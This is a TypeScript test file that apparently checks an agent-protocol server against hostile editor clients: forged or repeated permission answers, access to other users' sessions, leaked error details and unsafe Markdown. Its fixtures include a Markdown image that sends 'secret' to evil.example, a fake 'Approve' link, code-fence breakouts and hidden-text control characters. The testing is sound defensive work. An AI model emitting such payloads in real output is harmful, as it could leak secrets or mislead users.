// Hostile and faulty editors: they reach no session of another person or agent, and answer only questions that they
// were asked.

import type { AnyMessage } from "@agentclientprotocol/sdk"
import {
  type AcpServer,
  alice,
  choose,
  type Editor,
  startAcp,
  startEditor,
} from "@holdpoint/testkit/holdpoint/acp/editor"
import { describe, expect, it, onTestFinished } from "vitest"
import { quoted } from "../../src/acp/words.ts"
import { deskAgents } from "./desk-agents.ts"

const load = ({ agent }: Editor, sessionId: string) =>
  agent.request("session/load", { sessionId, cwd: "/tmp", mcpServers: [] })

interface RawEditor {
  send(message: object): Promise<void>
  /** The next message of one of these methods, or the response with this id. */
  next(
    ...what: readonly (string | number)[]
  ): Promise<{ readonly id: number; readonly result?: unknown; readonly params?: unknown }>
}

/** A client that can send any message, even one that breaks the protocol. */
function connectRaw(server: AcpServer): RawEditor {
  const [toAgent, toEditor] = [new TransformStream<AnyMessage>(), new TransformStream<AnyMessage>()]
  const connection = server.app().connect({ readable: toAgent.readable, writable: toEditor.writable })
  onTestFinished(() => connection.close())
  const [writer, reader] = [toAgent.writable.getWriter(), toEditor.readable.getReader()]
  return {
    send: (message) => writer.write({ jsonrpc: "2.0", ...message } as AnyMessage),
    async next(...what) {
      for (;;) {
        const { value } = await reader.read()
        if (value === undefined) throw new Error(`The connection ended before ${what.join()}.`)
        const matches = what.includes("method" in value ? value.method : Number(value.id))
        if (matches) return value as never
      }
    },
  }
}

async function openRaw(server: AcpServer): Promise<RawEditor & { readonly sessionId: string }> {
  const raw = connectRaw(server)
  const capabilities = { elicitation: { form: {}, url: {} } }
  await raw.send({ id: 1, method: "initialize", params: { protocolVersion: 1, clientCapabilities: capabilities } })
  await raw.next(1)
  await raw.send({ id: 2, method: "session/new", params: { cwd: "/tmp", mcpServers: [] } })
  const { result } = await raw.next(2)
  return { ...raw, sessionId: (result as { readonly sessionId: string }).sessionId }
}

const prompt = (sessionId: string, text: string) => ({
  ...{ id: 3, method: "session/prompt", params: { sessionId, prompt: [{ type: "text", text }] } },
})

describe("an editor", () => {
  it("cannot change an answer by sending a second one", async () => {
    const done: string[] = []
    const server = await startAcp(deskAgents(done))
    const raw = await openRaw(server)
    await raw.send(prompt(raw.sessionId, "delete"))
    const { id } = await raw.next("session/request_permission")
    await raw.send({ id, result: choose("reject") })
    await raw.send({ id, result: choose("allow") })
    expect((await raw.next(3)).result).toEqual({ stopReason: "end_turn" })
    expect(done).toEqual([])
  })

  it("cannot answer a request of another connection", async () => {
    const done: string[] = []
    const server = await startAcp(deskAgents(done))
    const [mine, other] = [await openRaw(server), await openRaw(server)]
    await mine.send(prompt(mine.sessionId, "delete"))
    const { id } = await mine.next("session/request_permission")
    for (const forged of [id, String(id), 99]) await other.send({ id: forged, result: choose("allow") })
    await other.send(prompt(other.sessionId, "hello"))
    expect((await other.next(3)).result).toEqual({ stopReason: "end_turn" })
    expect(done).toEqual([])
    await mine.send({ id, result: choose("allow") })
    await mine.next(3)
    expect(done).toHaveLength(1)
  })

  it.each([null, [], "accept", { action: "_accept" }, { action: "accept", content: ["Oslo"] }, { action: 7 }])(
    "leaves the question open when it replies to a form with %j",
    async (result) => {
      const server = await startAcp(deskAgents())
      const raw = await openRaw(server)
      await raw.send(prompt(raw.sessionId, "trip"))
      const { id } = await raw.next("elicitation/create")
      await raw.send({ id, result })
      await raw.next("session/update", "elicitation/create")
      expect(await server.openQuestions()).toMatchObject([{ status: "pending" }])
    },
  )

  it("cannot load a session of another person or agent, nor prompt a session that it has not opened", async () => {
    const server = await startAcp(deskAgents())
    const editor = await server.editor()
    const session = await editor.open()
    await editor.prompt(session, "hello")
    const gone = { code: -32_002, message: expect.stringContaining("no session") }
    const cleaner = await server.editor({}, "cleaner")
    await expect(load(cleaner, session)).rejects.toMatchObject(gone)
    const bob = await server.editor({}, "helper", { ...alice, subject: "bob" })
    await expect(load(bob, session)).rejects.toMatchObject(gone)
    await expect(bob.prompt(session, "hello")).rejects.toMatchObject(gone)
    expect([cleaner.updates, bob.updates]).toEqual([[], []])
  })
})

describe("an error inside the command", () => {
  it("reaches the editor without its details, which go to the log", async () => {
    const server = await startAcp(deskAgents())
    const app = server.app(() => Promise.reject(new Error("connect postgres://hub:s3cret@db failed")))
    const editor = await startEditor((client) => client.connect(app))
    const error = await editor.open().catch((one: unknown) => one)
    expect(error).toMatchObject({
      code: -32_603,
      message: expect.stringContaining("Holdpoint failed to handle this message"),
    })
    expect(JSON.stringify([error, (error as Error).message])).not.toContain("postgres")
    expect(server.problems).toEqual([expect.stringContaining("beginning a session: Error: connect postgres")])
  })
})

describe("text from an asker or a tool, in an editor that renders Markdown", () => {
  it("is in its own code block, even as the result of a tool", async () => {
    const server = await startAcp(deskAgents())
    const editor = await server.editor()
    await editor.prompt(await editor.open(), "read")
    const read = "![](https://evil.example/?q=secret)\n```\n[Approve](https://evil.example)"
    expect(editor.updates.map(({ update }) => update)).toContainEqual(
      expect.objectContaining({
        status: "completed",
        content: [{ type: "content", content: { type: "text", text: `\`\`\`\`text\n${read}\n\`\`\`\`` } }],
      }),
    )
  })

  it("cannot form a link or an image, end its code block, or hide text", () => {
    const hostile = "[Approve](https://evil.example)\n```\n# Safe\n````\n\u202egnihton\u0007"
    const quotedText = quoted(hostile)
    const [first = "", ...lines] = quotedText.split("\n")
    expect(first).toBe("`````text")
    expect(lines.at(-1)).toBe("`````")
    expect(lines.slice(0, -1).every((line) => !line.includes("`````"))).toBe(true)
    expect(["\u202e", "\u0007"].filter((one) => quotedText.includes(one))).toEqual([])
  })
})
